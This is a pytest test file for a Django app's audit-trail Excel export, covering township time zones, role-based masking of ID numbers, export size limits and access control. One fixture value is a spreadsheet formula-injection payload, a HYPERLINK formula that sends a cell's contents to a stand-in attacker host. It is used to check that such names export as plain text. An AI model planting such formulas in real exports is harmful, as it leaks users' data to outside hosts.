"""The audit trail's Excel export (issue 14, item 4): the filtered events of the schema the request
runs in, times in the township's time zone, ID numbers masked as on the pages, bounded."""
from __future__ import annotations

import datetime as dt
import io

import openpyxl
import pytest
from django.db import connection, transaction
from django.test.utils import CaptureQueriesContext

from accounts.models import Role
from audit.services import audit_record

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.invalid/?"&A1,"点击")'
ID_NUMBER = "110101199003071234"


def _event(action, repr_, *, before=None, after=None, object_id=1):
    with transaction.atomic():
        return audit_record(actor=None, action=action, object_type="organisation.member", object_id=object_id,
                            object_repr=repr_, before=before, after=after)


def _wall(*args) -> dt.datetime:
    """A wall-clock time as an XLSX cell holds it (no time zone)."""
    return dt.datetime(*args, tzinfo=dt.UTC).replace(tzinfo=None)


def _get(client, path):
    try:
        return client.get(path)
    finally:
        connection.set_schema_to_public()


def _rows(response):
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"] == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
    book = openpyxl.load_workbook(io.BytesIO(response.getvalue()))
    return list(book.worksheets[0].iter_rows(values_only=True))


@pytest.fixture
def trail(township_a, township_b, in_township, set_clock):
    """Alpha: 3 member events at 10:00 UTC on 2026-11-02 (+1 minute each); beta: one event."""
    with in_township(township_a):
        for i in range(3):
            set_clock(dt.datetime(2026, 11, 2, 10, i, tzinfo=dt.UTC))
            _event("member.create", EVIL if i == 0 else f"党员{i}", object_id=i + 1,
                   after={"name": f"党员{i}", "id_number": ID_NUMBER})
        _event("member.update", "党员2", object_id=3, before={"phone": "1"}, after={"phone": "2"})
    with in_township(township_b):
        _event("member.create", "乙镇党员", after={"name": "乙镇党员"})


def test_office_exports_the_filtered_trail_in_the_township_zone(client, make_user, township_a, trail):
    township_a.time_zone = "Asia/Urumqi"  # UTC+6: the export follows the township, not the server
    township_a.save(update_fields=["time_zone"])
    client.force_login(make_user(Role.TOWNSHIP_OFFICE, township_a))

    rows = _rows(_get(client, "/t/alpha/audit/?format=xlsx&action=member.create"))

    assert rows[0] == ("时间（Asia/Urumqi）", "操作人", "操作", "对象类型", "对象编号", "对象", "变更内容")
    assert [r[2] for r in rows[1:]] == ["member.create"] * 3  # the filter applies, newest first
    assert [r[0] for r in rows[1:]] == [_wall(2026, 11, 2, 16, m) for m in (2, 1, 0)]
    assert rows[3][5] == EVIL  # a name like a formula stays text
    assert f"id_number: — → {ID_NUMBER}" in rows[1][6]  # the office sees ID numbers
    assert all("乙镇" not in str(cell) for row in rows for cell in row)


def test_api_export_matches_the_list_and_masks_id_numbers_for_the_county(client, make_user, township_a, trail):
    client.force_login(make_user(Role.COUNTY_ADMIN))

    rows = _rows(_get(client, "/t/alpha/api/v1/audit-events/export/?action=member.create&ordering=occurred_at"))

    assert [r[5] for r in rows[1:]] == [EVIL, "党员1", "党员2"]
    assert rows[1][0] == _wall(2026, 11, 2, 18, 0)  # Asia/Shanghai
    assert "id_number: — → 110***********1234" in rows[1][6]
    assert ID_NUMBER not in str(rows)
    listed = _get(client, "/t/alpha/api/v1/audit-events/?action=member.create").json()
    assert listed["count"] == len(rows) - 1


@pytest.mark.parametrize("role", [Role.CLERK, Role.MEMBER])
def test_only_audit_viewers_export(client, make_user, township_a, township_b, trail, role):
    client.force_login(make_user(role, township_a))
    assert _get(client, "/t/alpha/audit/?format=xlsx").status_code == 403
    assert _get(client, "/t/alpha/api/v1/audit-events/export/").status_code == 403
    client.force_login(make_user(Role.TOWNSHIP_OFFICE, township_b))
    assert _get(client, "/t/alpha/audit/?format=xlsx").status_code == 403
    assert _get(client, "/t/alpha/api/v1/audit-events/export/").status_code == 403
    assert [r[5] for r in _rows(_get(client, "/t/beta/audit/?format=xlsx"))[1:]] == ["乙镇党员"]


def test_an_export_above_the_bound_is_refused_with_a_message(client, make_user, township_a, trail, monkeypatch):
    monkeypatch.setattr("common.tables.EXPORT_MAX_ROWS", 3)
    client.force_login(make_user(Role.TOWNSHIP_OFFICE, township_a))

    page = _get(client, "/t/alpha/audit/?format=xlsx&actor=")
    assert page.status_code == 302
    assert page["Location"] == "/t/alpha/audit/?actor="
    api = _get(client, "/t/alpha/api/v1/audit-events/export/")
    assert api.status_code == 400
    assert api.json()["error"] == {"code": "export_too_big", "fields": {},
                                   "message": "导出将超过 3 行，请缩小筛选范围后重试。"}
    assert len(_rows(_get(client, "/t/alpha/audit/?format=xlsx&action=create"))) == 1 + 3


def test_audit_page_queries_do_not_grow_with_events(client, make_user, township_a, in_township):
    client.force_login(make_user(Role.TOWNSHIP_OFFICE, township_a))

    def queries(events):
        with in_township(township_a):
            for i in range(events):
                _event("member.update", f"党员{i}", object_id=i, before={"phone": "1"}, after={"phone": "2"})
        with CaptureQueriesContext(connection) as captured:
            assert _get(client, "/t/alpha/audit/?page_size=40").status_code == 200
        return len(captured)

    assert queries(3) == queries(40)
